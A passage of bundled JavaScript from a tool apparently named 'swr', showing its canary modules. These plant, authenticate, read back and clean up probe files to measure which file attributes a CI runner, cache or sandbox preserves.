        if (p.expect.type === 'hardlink') {
            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
        }
    }
    const dirs = ledger.locations.flatMap(l => l.created);
    for (const d of dirs.reverse()) {
        let abs;
        try {
            abs = locate(d, anchors);
        }
        catch (e) {
            if (!(e instanceof SymlinkRefusal))
                throw e;
            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
            continue;
        }
        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
        if (!st?.isDirectory())
            continue;
        try {
            external_node_fs_default().rmdirSync(abs);
            out.removed.push(showAnchored(d) + '/');
        }
        catch {
            out.kept.push({
                path: showAnchored(d) + '/',
                why: 'not empty: holds files that were not planted'
            });
        }
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/canary/probes.ts
/**
 * Probe classes: each one asks a different question of whatever keeps (or drops) files between
 * runs. Does it keep exec bits? Private modes? Symlinks, to files and to directories? Empty
 * directories? Hard links as links? 255-byte and non-ASCII names? Dotfiles? Files above a size
 * cap? A probe records everything it expects, so a read names the attribute that changed.
 *
 * Every probe is created exclusively (O_EXCL, never following a link): planting never replaces a
 * file, and names carry the planting's random id so they cannot meet a user's file by chance.
 */




const PROBE_CLASSES = [
    'stamp',
    'script',
    'private',
    'symlink',
    'dirlink',
    'emptydir',
    'hardlink',
    'longname',
    'unicode',
    'dotfile',
    'large'
];
const probes_CLASS_QUESTION = {
    stamp: 'small file with a random stamp',
    script: 'executable script (0755)',
    private: 'private file (0600)',
    symlink: 'relative symlink to a file',
    dirlink: 'symlink to a directory',
    emptydir: 'empty directory',
    hardlink: 'hard-link pair',
    longname: 'file name of 255 bytes',
    unicode: 'non-ASCII file name',
    dotfile: 'dotfile',
    large: 'large file (size caps)'
};
/** The bytes names may use, so a 255-byte name fits every common file system's limit exactly. */
const NAME_MAX = 255;
function probeName(plantId, cls) {
    const base = `swr-canary-${plantId}-${cls}`;
    switch (cls) {
        case 'dotfile':
            return `.${base}`;
        case 'unicode':
            // NFC on purpose: a store that normalises to NFD changes the name, which reads as lost.
            return `${base}-\u00fcn\u00efc\u00f8d\u00e9-\u540d\u524d-\u{1f424}`.normalize('NFC');
        case 'longname':
            return base + '-' + 'l'.repeat(NAME_MAX - Buffer.byteLength(base) - 1);
        case 'hardlink':
            return `${base}-a`;
        default:
            return base;
    }
}
function hardlinkPeerName(plantId) {
    return `swr-canary-${plantId}-hardlink-b`;
}
function probes_octal(mode) {
    return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
}
function sha256(data) {
    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
}
const CREATE = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
/** Create `abs` exclusively with exactly `mode` (fchmod, so the umask cannot narrow it). */
function createFile(abs, data, mode) {
    const fd = external_node_fs_default().openSync(abs, CREATE, mode);
    try {
        writeAll(fd, data);
        external_node_fs_default().fchmodSync(fd, mode);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/**
 * Incompressible bytes, streamed: a cache that compresses would otherwise store 64 MiB of zeros
 * in a few kilobytes and never meet its size cap. AES-CTR keystream under a random key is fast
 * and needs no buffer of the whole size.
 */
function createLarge(abs, size) {
    const cipher = (0,external_node_crypto_.createCipheriv)('aes-256-ctr', (0,external_node_crypto_.randomBytes)(32), (0,external_node_crypto_.randomBytes)(16));
    const hash = (0,external_node_crypto_.createHash)('sha256');
    const zero = Buffer.alloc(1 << 20);
    const fd = external_node_fs_default().openSync(abs, CREATE, 0o644);
    try {
        for (let left = size; left > 0;) {
            const n = Math.min(left, zero.length);
            const chunk = cipher.update(zero.subarray(0, n));
            writeAll(fd, chunk);
            hash.update(chunk);
            left -= n;
        }
        external_node_fs_default().fchmodSync(fd, 0o644);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    return hash.digest('hex');
}
function stampText(plantId, cls) {
    return Buffer.from(`swr canary ${plantId} ${cls} ${(0,external_node_crypto_.randomBytes)(12).toString('hex')}\n`);
}
/**
 * Plant one probe of `cls` in `ctx.dir`; returns its expectation, with paths relative to the
 * directory (the caller anchors them). Throws on EEXIST and every other failure.
 */
function plantProbe(cls, ctx) {
    const name = probeName(ctx.plantId, cls);
    const abs = external_node_path_default().join(ctx.dir, name);
    const file = (data, mode) => {
        createFile(abs, data, mode);
        ctx.created.push(abs);
        return { type: 'file', mode: probes_octal(mode), size: data.length, sha256: sha256(data) };
    };
    switch (cls) {
        case 'script': {
            const body = `#!/bin/sh\n# swr canary ${ctx.plantId}\necho ${(0,external_node_crypto_.randomBytes)(8).toString('hex')}\n`;
            return { name, expect: file(Buffer.from(body), 0o755) };
        }
        case 'private':
            return { name, expect: file(stampText(ctx.plantId, cls), 0o600) };
        case 'stamp':
        case 'longname':
        case 'unicode':
        case 'dotfile':
            return { name, expect: file(stampText(ctx.plantId, cls), 0o644) };
        case 'large': {
            const digest = createLarge(abs, ctx.largeBytes);
            ctx.created.push(abs);
            return { name, expect: { type: 'file', mode: '0644', size: ctx.largeBytes, sha256: digest } };
        }
        case 'emptydir':
            external_node_fs_default().mkdirSync(abs, { mode: 0o755 });
            ctx.created.push(abs);
            external_node_fs_default().chmodSync(abs, 0o755);
            return { name, expect: { type: 'dir', mode: '0755' } };
        case 'symlink':
        case 'dirlink': {
            // Relative targets: an absolute one would point back at the old machine after a move.
            const target = cls === 'symlink' ? probeName(ctx.plantId, 'stamp') : probeName(ctx.plantId, 'emptydir');
            external_node_fs_default().symlinkSync(target, abs);
            ctx.created.push(abs);
            return {
                name,
                expect: { type: 'symlink', target, resolves: cls === 'symlink' ? 'file' : 'dir' }
            };
        }
        case 'hardlink': {
            const data = stampText(ctx.plantId, cls);
            createFile(abs, data, 0o644);
            ctx.created.push(abs);
            const peer = hardlinkPeerName(ctx.plantId);
            external_node_fs_default().linkSync(abs, external_node_path_default().join(ctx.dir, peer));
            ctx.created.push(external_node_path_default().join(ctx.dir, peer));
            return {
                name,
                expect: { type: 'hardlink', mode: '0644', size: data.length, sha256: sha256(data), peer }
            };
        }
    }
}
/** Links need their targets first: plant in this order. */
function plantingOrder(classes) {
    const rank = (c) => (c === 'symlink' || c === 'dirlink' ? 1 : 0);
    return [...classes].sort((a, b) => rank(a) - rank(b));
}

;// CONCATENATED MODULE: ./src/core/canary/ledger.ts
/**
 * The canary ledger: what one planting put where, kept in the private state directory (0600,
 * written atomically). It is the only record of the probes, so reading it is strict: a damaged
 * ledger is an error naming the field, never a silent "everything lost".
 *
 * Clean removes what the ledger names, so the ledger is authenticated before anything acts on it:
 * HMAC-SHA256 over its canonical JSON under a key kept beside it (ledger.key, 32 random bytes,
 * created 0600 with the first planting). A ledger that fails is refused in one line and nothing is
 * removed. The key guards against a ledger written by anything but swr with this state directory;
 * where the state directory itself travels (the Action's cache), it is as strong as that channel,
 * and the name rules below still confine what a ledger may name.
 */








const LEDGER_FORMAT = 'swr-canary-ledger/1';
const CANARY_DIR = 'canary';
const LEDGER_FILE = 'ledger.json';
const KEY_FILE = 'ledger.key';
const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
function ledgerPath(stateDir) {
    return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
}
function ledger_keyPath(stateDir) {
    return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
}
/** The ledger key, or undefined when there is none (nothing was planted with this state). */
function readKey(stateDir) {
    const file = ledger_keyPath(stateDir);
    let fd;
    try {
        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    }
    catch (e) {
        if (e.code === 'ENOENT')
            return undefined;
        throw bad(file, `cannot be read (${e.code ?? String(e)})`);
    }
    try {
        const buf = Buffer.alloc(128);
        const n = external_node_fs_default().readSync(fd, buf, 0, buf.length, 0);
        const text = buf.subarray(0, n).toString('utf8').trim();
        if (!/^[0-9a-f]{64}$/.test(text))
            throw bad(file, 'is not a ledger key (64 hex digits)');
        return Buffer.from(text, 'hex');
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** The key, created on first use (exclusively, 0600: a concurrent creator's key wins). */
function ledgerKey(stateDir) {
    const have = readKey(stateDir);
    if (have)
        return have;
    ensurePrivateDir(stateDir, CANARY_DIR);
    try {
        writeFileAtomic(ledger_keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
            mode: 0o600,
            exclusive: true
        });
    }
    catch (e) {
        if (e.code !== 'EEXIST')
            throw e;
    }
    const key = readKey(stateDir);
    if (!key)
        throw bad(ledger_keyPath(stateDir), 'vanished after it was created');
    return key;
}
function macOf(key, body) {
    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonicalBytes(body)).digest('hex');
}
function writeLedger(stateDir, ledger) {
    const key = ledgerKey(stateDir);
    const { mac: _old, ...body } = ledger;
    const signed = { ...body, mac: macOf(key, body) };
    writeFileAtomic(ledgerPath(stateDir), JSON.stringify(signed, null, 1) + '\n', { mode: 0o600 });
}
/** Throws unless `v` carries the MAC this state directory's key gives it. */
function authenticate(stateDir, file, v) {
    const refuse = (why) => bad(file, `${why}; nothing was removed (delete the ledger to plant again)`);
    const key = readKey(stateDir);
    if (!key)
        throw refuse('cannot be authenticated: no ledger key in the state directory');
    if (typeof v.mac !== 'string' || !/^[0-9a-f]{64}$/.test(v.mac))
        throw refuse('fails authentication: it carries no MAC');
    const { mac, ...body } = v;
    let want;
    try {
        want = macOf(key, body);
    }
    catch {
        throw refuse('fails authentication: it has no canonical form');
    }
    if (!(0,external_node_crypto_.timingSafeEqual)(Buffer.from(want, 'hex'), Buffer.from(mac, 'hex')))
        throw refuse('fails authentication: not written by swr with this state directory, or altered');
}
function bad(file, why) {
    return new SwrError(`canary ledger ${file}: ${why}`, EXIT.BAD_MANIFEST);
}
function isAnchored(v) {
    const a = v;
    return (typeof a === 'object' &&
        a !== null &&
        ['workspace', 'home', 'tmp', 'abs'].includes(a.anchor) &&
        typeof a.rel === 'string' &&
        !a.rel.split('/').includes('..'));
}
/**
 * Clean removes the directories a location lists as created (when empty), so a location may only
 * list its own directory and that directory's parents, and only where planting creates any: the
 * deep path and the temp directory carry this planting's name, a volatile directory is the named
 * directory of the workspace, --at paths are the caller's; the workspace and home create nothing.
 */
function createdProblem(plantId, l) {
    const under = (a, b) => a.anchor === b.anchor && (a.rel === b.rel || b.rel.startsWith(`${a.rel}/`));
    if (!l.created.every(c => under(c, l.dir)))
        return 'names a directory that is not the location';
    if (l.created.length === 0)
        return undefined;
    const first = l.created[0];
    const own = `swr-canary-${plantId}-`;
    if (l.id === 'deep')
        return first.anchor === 'workspace' && first.rel === `${own}deep`
            ? undefined
            : 'is not the deep path';
    if (l.id === 'tmp')
        return l.created.length === 1 && external_node_path_default().posix.basename(first.rel).startsWith(own)
            ? undefined
            : "is not this planting's temp directory";
    if (l.id.startsWith('volatile:'))
        return l.created.length === 1 &&
            first.anchor === 'workspace' &&
            first.rel === l.id.slice('volatile:'.length) &&
            !first.rel.includes('/')
            ? undefined
            : 'is not the volatile directory';
    return l.id.startsWith('at:') ? undefined : `lists directories, but ${l.id} creates none`;
}
function checkProbe(file, plantId, p, i, locations) {
    const where = `probes[${i}]`;
    if (!PROBE_CLASSES.includes(p?.class))
        throw bad(file, `${where}.class is not a probe class`);
    if (!locations.has(p.location))
        throw bad(file, `${where}.location names no location`);
    if (!isAnchored(p.path))
        throw bad(file, `${where}.path is not an anchored path`);
    // Clean unlinks what the ledger names: a ledger (say, restored from a poisoned cache) may only
    // name files this planting's naming rule produces, never a user's file.
    if (external_node_path_default().posix.basename(p.path.rel) !== probeName(plantId, p.class))
        throw bad(file, `${where}.path is not a ${p.class} probe of planting ${plantId}`);
    const e = p.expect;
    if (typeof e !== 'object' ||
        e === null ||
        !['file', 'dir', 'symlink', 'hardlink'].includes(e.type))
        throw bad(file, `${where}.expect.type is not file, dir, symlink or hardlink`);
    if ((e.type === 'symlink' || e.type === 'hardlink') &&
        typeof (e.type === 'symlink' ? e.target : e.peer) !== 'string')
        throw bad(file, `${where}.expect has no link target`);
    if (e.type === 'hardlink' && e.peer !== hardlinkPeerName(plantId))
        throw bad(file, `${where}.expect.peer is not this planting's second name`);
    if ((e.type === 'file' || e.type === 'hardlink') && !/^[0-9a-f]{64}$/.test(e.sha256))
        throw bad(file, `${where}.expect.sha256 is not a sha256`);
}
/** The ledger, or undefined when nothing was planted; throws on a damaged ledger. */
function readLedger(stateDir) {
    const file = ledgerPath(stateDir);
    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
    if (!st)
        return undefined;
    if (!st.isFile())
        throw bad(file, 'is not a regular file');
    if (st.size > MAX_LEDGER_BYTES)
        throw bad(file, `larger than ${MAX_LEDGER_BYTES} bytes`);
    let v;
    try {
        v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
    }
    catch (e) {
        throw bad(file, `not JSON (${e instanceof Error ? e.message : String(e)})`);
    }
    if (v?.format !== LEDGER_FORMAT)
        throw bad(file, `format is not ${LEDGER_FORMAT}`);
    if (typeof v.plant_id !== 'string' || !/^[0-9a-f]{8,32}$/.test(v.plant_id))
        throw bad(file, 'plant_id is not a planting id');
    if (!Array.isArray(v.locations) || !Array.isArray(v.probes))
        throw bad(file, 'locations and probes must be arrays');
    const ids = new Set();
    v.locations.forEach((l, i) => {
        if (typeof l?.id !== 'string' ||
            !isAnchored(l.dir) ||
            !Array.isArray(l.created) ||
            !l.created.every(isAnchored))
            throw bad(file, `locations[${i}] is malformed`);
        const why = createdProblem(v.plant_id, l);
        if (why)
            throw bad(file, `locations[${i}].created ${why}`);
        ids.add(l.id);
    });
    v.probes.forEach((p, i) => checkProbe(file, v.plant_id, p, i, ids));
    // Shape first (errors name the field), then the MAC, before anything acts on the ledger.
    authenticate(stateDir, file, v);
    return v;
}
function removeLedger(stateDir) {
    external_node_fs_default().rmSync(ledgerPath(stateDir), { force: true });
}

;// CONCATENATED MODULE: ./src/core/canary/locations.ts
/**
 * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
 * path 20 directories deep (path-length and depth limits), every volatile directory that exists
 * or is asked for (node_modules, build, .cache, ...: the usual exclusions), $HOME, a fresh
 * directory in the temp dir, and every `--at` path (what a cache step saves).
 */






const DEEP_LEVELS = 20;
function isRealDir(abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    return st?.isDirectory() === true;
}
function checkAt(abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    if (!st)
        return;
    if (st.isSymbolicLink())
        throw new UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
    if (!st.isDirectory())
        throw new UsageError(`--at ${abs}: is not a directory`);
}
/** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
function insideWorkspaceNoFollow(workspace, abs, at) {
    const rel = relativeInside(workspace, abs);
    if (rel === undefined || rel === '.')
        return;
    try {
        resolveNoFollow(workspace, rel);
    }
    catch (e) {
        if (e instanceof SymlinkRefusal)
            throw new UsageError(`--at ${at}: ${e.message}`);
        throw e;
    }
}
function planLocations(req) {
    const out = [
        { id: 'workspace', abs: req.workspace, make: 'exists' },
        { id: 'deep', abs: external_node_path_default().join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
    ];
    const names = new Set(req.volatile);
    for (const name of VOLATILE_DIRS)
        if (isRealDir(external_node_path_default().join(req.workspace, name)))
            names.add(name);
    for (const name of [...names].sort()) {
        if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
            throw new UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
        const abs = external_node_path_default().join(req.workspace, name);
        // A probe, the multi-GiB large one included, must never land outside through a planted link.
        if (external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
            throw new UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
        out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
    }
    if (req.includeHome && isRealDir(req.home))
        out.push({ id: 'home', abs: req.home, make: 'exists' });
    if (req.includeTmp)
        out.push({ id: 'tmp', abs: req.tmp, make: 'mkdtemp' });
    for (const at of req.at) {
        const abs = external_node_path_default().resolve(at);
        if (abs === external_node_path_default().parse(abs).root)
            throw new UsageError(`--at ${at}: refusing the root directory`);
        checkAt(abs);
        insideWorkspaceNoFollow(req.workspace, abs, at);
        // Named as anchored, so the same directory keeps one history row across runners and paths.
        out.push({
            id: `at:${showAnchored(anchor_anchor(abs, req))}`,
            abs,
            make: external_node_fs_default().existsSync(abs) ? 'exists' : 'mkdir'
        });
    }
    // One location per directory: $HOME may be the workspace, an --at path may repeat another.
    const seen = new Set();
    return out.filter(l => l.make === 'mkdtemp' || !seen.has(l.abs) ? (seen.add(l.abs), true) : false);
}
/** Make the location exist; returns the directory and what was created, for undo and clean. */
function materialize(loc, plantId, anchors, created) {
    let dir = loc.abs;
    const mine = [];
    switch (loc.make) {
        case 'exists':
            break;
        case 'mkdir': {
            const first = external_node_fs_default().mkdirSync(loc.abs, { recursive: true, mode: 0o755 });
            // mkdirSync returns the first directory it made: every level from there down is ours.
            if (first)
                for (let d = loc.abs;; d = external_node_path_default().dirname(d)) {
                    mine.unshift(d);
                    if (d === first)
                        break;
                }
            break;
        }
        case 'deep': {
            external_node_fs_default().mkdirSync(loc.abs, { mode: 0o755 });
            mine.push(loc.abs);
            for (let i = 2; i <= DEEP_LEVELS; i++) {
                dir = external_node_path_default().join(dir, `d${String(i).padStart(2, '0')}`);
                external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
                mine.push(dir);
            }
            break;
        }
        case 'mkdtemp':
            // A fresh random directory: never a fixed name in a directory other users share.
            dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(loc.abs, `swr-canary-${plantId}-`));
            mine.push(dir);
            break;
    }
    created.push(...mine);
    return {
        location: { id: loc.id, dir: anchor_anchor(dir, anchors), created: mine.map(d => anchor_anchor(d, anchors)) },
        abs: dir
    };
}

;// CONCATENATED MODULE: ./src/core/canary/plant.ts
/**
 * Planting: decide the locations, create every probe exclusively, and record them in the ledger.
 * All or nothing: when any probe cannot be created, everything this planting made is removed and
 * no ledger is written, so a failed plant leaves the machine as it was.
 */









const DEFAULT_LARGE_BYTES = 64 * 1024 * 1024;
/** Locations that only test names and depth: no large file there. */
const NO_LARGE = new Set(['deep']);
function classesFor(loc, largeBytes) {
    return plantingOrder(PROBE_CLASSES.filter(c => c !== 'large' || (largeBytes > 0 && !NO_LARGE.has(loc.id))));
}
function undo(created) {
    for (const p of [...created].reverse()) {
        try {
            const st = external_node_fs_default().lstatSync(p);
            if (st.isDirectory())
                external_node_fs_default().rmdirSync(p);
            else
                external_node_fs_default().unlinkSync(p);
        }
        catch {
            // Already gone, or no longer ours to remove (not empty): leave it.
        }
    }
}
function retire(opts) {
    const old = readLedger(opts.stateDir);
    if (!old)
        return undefined;
    if (!old.read_at && !opts.replace)
        throw new UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
    const cleaned = cleanLedger(old, opts.anchors);
    return { plant_id: old.plant_id, removed: cleaned.removed.length };
}
function plantCanaries(opts) {
    const largeBytes = opts.largeBytes ?? DEFAULT_LARGE_BYTES;
    const plantId = opts.plantId ?? (0,external_node_crypto_.randomBytes)(4).toString('hex');
    // The old planting goes first: it may have created a directory this one would otherwise reuse.
    const replaced = retire(opts);
    const planned = planLocations({
        ...opts.anchors,
        plantId,
        at: opts.at ?? [],
        volatile: opts.volatile ?? [],
        includeHome: opts.includeHome ?? true,
        includeTmp: opts.includeTmp ?? true
    });
    const created = [];
    const locations = [];
    const probes = [];
    try {
        for (const p of planned) {
            const { location: loc, abs: dir } = materialize(p, plantId, opts.anchors, created);
            locations.push(loc);
            for (const cls of classesFor(loc, largeBytes)) {
                const { name, expect } = plantProbe(cls, { plantId, dir, largeBytes, created });
                probes.push({
                    class: cls,
                    location: loc.id,
                    path: anchor_anchor(external_node_path_default().join(dir, name), opts.anchors),
                    expect
                });
            }
        }
        const ledger = {
            format: LEDGER_FORMAT,
            plant_id: plantId,
            planted_at: (opts.now ?? new Date()).toISOString(),
            context: opts.context,
            large_bytes: largeBytes,
            locations,
            probes
        };
        writeLedger(opts.stateDir, ledger);
        return replaced ? { ledger, replaced } : { ledger };
    }
    catch (err) {
        undo(created);
        if (err instanceof SwrError)
            throw err;
        const e = err;
        const code = errnoCode(err);
        throw new SwrError(code === 'EEXIST'
            ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, EXIT.UNREPAIRABLE);
    }
}

;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
/**
 * Reading one probe back: intact, altered (naming each attribute that changed) or lost. Nothing is
 * followed out of place: the probe is lstat'ed, and a link's target is resolved only to learn
 * whether it still leads to the kind of thing it was planted to.
 */



function kindOf(st) {
    if (st.isSymbolicLink())
        return 'symlink';
    if (st.isDirectory())
        return 'dir';
    if (st.isFile())
        return 'file';
    return 'other';
}
function inspect_hashFile(abs) {
    const hash = (0,external_node_crypto_.createHash)('sha256');
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    try {
        const buf = Buffer.allocUnsafe(1 << 20);
        for (let n; (n = external_node_fs_default().readSync(fd, buf, 0, buf.length, null)) > 0;)
            hash.update(buf.subarray(0, n));
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    return hash.digest('hex');
}
class Findings {
    attributes = [];
    details = [];
    add(a, detail) {
        if (!this.attributes.includes(a))
            this.attributes.push(a);
        this.details.push(detail);
    }
    outcome() {
        return this.attributes.length === 0
            ? { state: 'intact' }
            : { state: 'altered', attributes: this.attributes, detail: this.details.join('; ') };
    }
}
function checkMode(f, want, st) {
    const wantBits = parseInt(want, 8);
    const got = st.mode & 0o7777;
    if (got === wantBits)
        return;
    const shown = `mode 0${got.toString(8).padStart(3, '0')} (want ${want})`;
    // Losing a wanted exec bit is its own finding: it is what breaks scripts after a restore.
    if ((wantBits & 0o111) !== 0 && (got & wantBits & 0o111) !== (wantBits & 0o111))
        f.add('exec-bit', shown);
    else
        f.add('mode', shown);
}
function checkContent(f, abs, st, size, digest) {
    if (st.size !== size) {
        f.add('size', `${st.size.toLocaleString('en-US')} bytes (want ${size.toLocaleString('en-US')})`);
        return;
    }
    if (inspect_hashFile(abs) !== digest)
        f.add('content', 'same size, different content');
}
function targetKind(abs) {
    try {
        return kindOf(external_node_fs_default().statSync(abs));
    }
    catch {
        return undefined;
    }
}
/** Compare the probe at `abs` (and a hard link's peer beside it) with what was planted. */
function inspectProbe(probe, abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    const want = probe.expect;
    const f = new Findings();
    if (want.type === 'hardlink') {
        const peer = external_node_fs_default().lstatSync(external_node_path_default().join(external_node_path_default().dirname(abs), want.peer), { throwIfNoEntry: false });
        if (!st && !peer)
            return { state: 'lost' };
        if (!st || !peer) {
            f.add('hardlink', `${!st ? 'first' : 'second'} name lost`);
            return f.outcome();
        }
        if (!st.isFile()) {
            f.add('type', `a ${kindOf(st)} (want file)`);
            return f.outcome();
        }
        if (st.ino !== peer.ino || st.dev !== peer.dev)
            f.add('hardlink', 'the two names are separate files now');
        checkMode(f, want.mode, st);
        checkContent(f, abs, st, want.size, want.sha256);
        return f.outcome();
    }
    if (!st)
        return { state: 'lost' };
    const expectedKind = want.type;
    if (kindOf(st) !== expectedKind) {
        f.add('type', `a ${kindOf(st)} (want ${expectedKind})`);
        return f.outcome();
    }
    switch (want.type) {
        case 'file':
            checkMode(f, want.mode, st);
            checkContent(f, abs, st, want.size, want.sha256);
            break;
        case 'dir':
            checkMode(f, want.mode, st);
            break;
        case 'symlink': {
            const target = external_node_fs_default().readlinkSync(abs);
            if (target !== want.target)
                f.add('link-target', `points to ${target} (want ${want.target})`);
            const reached = targetKind(abs);
            if (reached === undefined)
                f.add('dangling', `${target} does not exist`);
            else if (reached !== want.resolves && target === want.target)
                f.add('link-target', `leads to a ${reached} (want ${want.resolves})`);
            break;
        }
    }
    return f.outcome();
}

;// CONCATENATED MODULE: ./src/core/canary/read.ts
/**
 * Reading a planting back: each probe compared with the ledger, tallied by class and by location,
 * the ledger marked read, and one record appended to the history (canary reads always record:
 * survival over many runs is the point).
 */






const CANARY_READ_SCHEMA = 'swr.canary-read/1';
function read_tally() {
    return { intact: 0, altered: 0, lost: 0 };
}
function readCanaries(opts) {
    const ledger = readLedger(opts.stateDir);
    if (!ledger)
        throw new SwrError('no canary planting to read: run "swr canary plant" first', EXIT.BAD_MANIFEST);
    const readAt = (opts.now ?? new Date()).toISOString();
    const reading = {
        schema: CANARY_READ_SCHEMA,
        plant_id: ledger.plant_id,
        planted_at: ledger.planted_at,
        read_at: readAt,
        planted_by: ledger.context,
        read_by: opts.context,
        reread: ledger.read_at !== undefined,
        totals: read_tally(),
        classes: {},
        locations: {},
        probes: []
    };
    for (const p of ledger.probes) {
        const outcome = inspectProbe(p, resolveAnchored(p.path, opts.anchors));
        reading.probes.push({
            class: p.class,
            location: p.location,
            path: showAnchored(p.path),
            outcome
        });
        const cls = (reading.classes[p.class] ??= { ...read_tally(), attributes: {} });
        const loc = (reading.locations[p.location] ??= read_tally());
        for (const t of [reading.totals, cls, loc])
            t[outcome.state]++;
        if (outcome.state === 'altered')
            for (const a of outcome.attributes)
                cls.attributes[a] = (cls.attributes[a] ?? 0) + 1;
    }
    // Classes in their canonical order, whatever order the ledger listed probes in.
    reading.classes = Object.fromEntries(PROBE_CLASSES.flatMap(c => (reading.classes[c] ? [[c, reading.classes[c]]] : [])));
    writeLedger(opts.stateDir, { ...ledger, read_at: ledger.read_at ?? readAt });
    appendHistory(opts.stateDir, canaryRecord(reading), opts.history);
    return reading;
}
function canaryRecord(r) {
    const strip = (t) => ({ intact: t.intact, altered: t.altered, lost: t.lost });
    return {
        v: 1,
        kind: 'canary',
        time: r.read_at,
        context: r.read_by,
        plant_id: r.plant_id,
        planted_at: r.planted_at,
        classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
        locations: r.locations
    };
}

;// CONCATENATED MODULE: ./src/core/report/canary.ts
/**
 * A canary read for people: totals, a table by class (with the attributes that changed) and by
 * location, then one line per probe that did not come back intact.
 */




function totals(t) {
    const n = t.intact + t.altered + t.lost;
    return `${n} probes: ${t.intact} intact, ${t.altered} altered, ${t.lost} lost`;
}
function attrs(a) {
    return Object.entries(a)
        .map(([k, n]) => `${k} ${n}`)
        .join(', ');
}
function header(r) {
    return `canary ${escapeText(r.plant_id)}: planted ${r.planted_at.slice(0, 19)}Z on ${contextLabel(r.planted_by)}, read ${r.read_at.slice(0, 19)}Z on ${contextLabel(r.read_by)}${r.reread ? ' (read before)' : ''}`;
}
function renderCanaryText(r) {
    const lines = [header(r), totals(r.totals), ''];
    const classes = Object.entries(r.classes);
    const cw = Math.max(...classes.map(([c]) => c.length), 5);
    lines.push(`${'class'.padEnd(cw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}  changed`);
    for (const [c, t] of classes) {
        if (!t)
            continue;
        lines.push(`  ${c.padEnd(cw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}  ${attrs(t.attributes)}`);
    }
    lines.push('');
    const locs = Object.entries(r.locations);
    const lw = Math.max(...locs.map(([l]) => escapeText(l).length), 8);
    lines.push(`${'location'.padEnd(lw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}`);
    for (const [l, t] of locs)
        lines.push(`  ${escapeText(l).padEnd(lw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}`);
    const bad = r.probes.filter(p => p.outcome.state !== 'intact');
    if (bad.length > 0) {
        lines.push('');
        for (const p of bad) {
            const o = p.outcome;
            const what = o.state === 'altered' ? `${o.attributes.join(',')}: ${escapeText(o.detail)}` : 'gone';
            lines.push(`${o.state.toUpperCase().padEnd(8)} ${p.class.padEnd(cw)}  ${escapeText(p.location)}  ${escapeText(abbreviate(p.path))}  ${what}`);
        }
    }
    return lines.join('\n') + '\n';
}
function cell(x) {
    return escapeMarkdown(x);
}
function renderCanaryMarkdown(r) {
    const icon = r.totals.altered + r.totals.lost === 0 ? '✅' : '⚠️';
    const lines = [
        `### ${icon} swr canary: ${totals(r.totals)}`,
        '',
        `<sub>${cell(header(r))}</sub>`,
        '',
        '| probe class | what it tests | intact | altered | lost | changed |',
        '| --- | --- | ---: | ---: | ---: | --- |'
    ];
    for (const [c, t] of Object.entries(r.classes))
        lines.push(`| \`${c}\` | ${CLASS_QUESTION[c]} | ${t.intact} | ${t.altered} | ${t.lost} | ${attrs(t.attributes)} |`);
    lines.push('', '| location | intact | altered | lost |', '| --- | ---: | ---: | ---: |');
    for (const [l, t] of Object.entries(r.locations))
        lines.push(`| ${markdownCode(l)} | ${t.intact} | ${t.altered} | ${t.lost} |`);
    return lines.join('\n') + '\n';
}

;// CONCATENATED MODULE: ./src/cli/commands/canary.ts
/**
 * `swr canary plant|read|clean`: measure what this runner, cache or sandbox keeps. Probes go into
